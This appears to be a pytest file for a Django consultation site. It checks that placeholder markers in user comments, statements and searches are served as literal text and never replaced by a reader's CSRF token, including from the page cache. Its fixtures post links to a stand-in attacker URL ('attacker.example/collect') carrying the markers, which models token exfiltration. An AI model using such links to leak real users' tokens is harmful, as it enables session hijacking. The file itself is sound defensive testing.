"""Text a person writes is served as written: no marker in it becomes a reader's token or address.

Cached pages once carried fixed marker strings (a CSRF placeholder, an address
placeholder, hole and co-signing comments) that were replaced across the whole
HTML when a page was served, user text included. Every marker the code has
ever used is posted here, in a comment's text and link, in a stance's
statement and in a search, and read back by anonymous and signed-in readers,
from a fresh render and from the cache.
"""

import re

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import VerificationStatus
from consultations import services
from consultations.models import Stance
from consultations.tests.factories import (
    ConsultationFactory,
    MembershipFactory,
    OrganisationFactory,
    RecommendationFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

MARKERS = [
    "csrf-placeholder-4c1f0d7e9a2b",
    "address-hole-8d1f4b",
    "<!--hole:account-nav-->",
    "<!--hole:banner-->",
    "<!--hole:comment-form-->",
    "<!--hole:endorsement-box-->",
    "<!--hole:follow-->",
    "<!--hole:statements-->",
    "<!--end of hole-->",
    "<!--cosign:1:2-->",
    "<!--c:1-->",
    "<!--/c:1-->",
]
ATTACKER = "https://attacker.example/collect"
TOKEN = re.compile(r'name="csrfmiddlewaretoken" value="([A-Za-z0-9]{64})"')


@pytest.fixture
def debate(django_capture_on_commit_callbacks):
    consultation = ConsultationFactory()
    recommendation = RecommendationFactory()
    consultation.recommendations.add(recommendation)
    with django_capture_on_commit_callbacks(execute=True):
        for marker in MARKERS:
            services.comment_create(
                consultation=consultation,
                recommendation=recommendation,
                body=f"Please read [our note]({ATTACKER}?t={marker}) {marker}",
                by=UserFactory(),
            )
        organisation = OrganisationFactory(status=VerificationStatus.VERIFIED)
        services.endorsement_set(
            consultation=consultation,
            recommendation=recommendation,
            organisation=organisation,
            stance=Stance.OPPOSE,
            statement=" ".join(MARKERS),
            by=MembershipFactory(organisation=organisation).user,
        )
    url = reverse(
        "consultations:recommendation-detail", args=[consultation.pk, recommendation.slug]
    )
    return url


def readers():
    anonymous = Client()
    signed_in = Client()
    signed_in.force_login(UserFactory())
    organisation = OrganisationFactory(status=VerificationStatus.VERIFIED)
    representative = Client()
    representative.force_login(MembershipFactory(organisation=organisation).user)
    return {"anonymous": anonymous, "signed in": signed_in, "representative": representative}


def assert_served_as_written(content: str) -> None:
    tokens = set(TOKEN.findall(content))
    assert len(tokens) == 1, "the page carries exactly one token of the visitor's own"
    (token,) = tokens
    # The token sits in the forms and the HTMX header, nowhere else.
    assert content.count(token) == content.count('name="csrfmiddlewaretoken"') + 1
    for marker in ("csrf-placeholder-4c1f0d7e9a2b", "address-hole-8d1f4b"):
        assert f'href="{ATTACKER}?t={marker}"' in content
    assert content.count("csrf-placeholder-4c1f0d7e9a2b") >= 3  # link, text, statement
    assert content.count("address-hole-8d1f4b") >= 3


@pytest.mark.parametrize("reader", ["anonymous", "signed in", "representative"])
def test_markers_in_comments_and_statements_stay_text_for_every_reader(debate, reader):
    client = readers()[reader]
    for _read in ("fresh", "again"):
        response = client.get(debate)
        assert response.status_code == 200
        assert_served_as_written(response.content.decode())


def test_markers_in_comments_stay_text_when_served_from_the_anonymous_cache(debate):
    Client().get(debate)
    response = Client().get(debate)
    assert response["X-Page-Cache"] == "hit"
    assert_served_as_written(response.content.decode())


@pytest.mark.parametrize("marker", MARKERS)
def test_a_search_for_a_marker_is_answered_with_the_marker(marker):
    url = reverse("recommendations:search")
    for client in (Client(), Client()):
        response = client.get(url, {"q": marker})
        assert response.status_code == 200
        content = response.content.decode()
        (token,) = set(TOKEN.findall(content))
        assert content.count(token) == content.count('name="csrfmiddlewaretoken"') + 1
        assert 'value="{}"'.format(marker.replace("<", "&lt;").replace(">", "&gt;")) in content
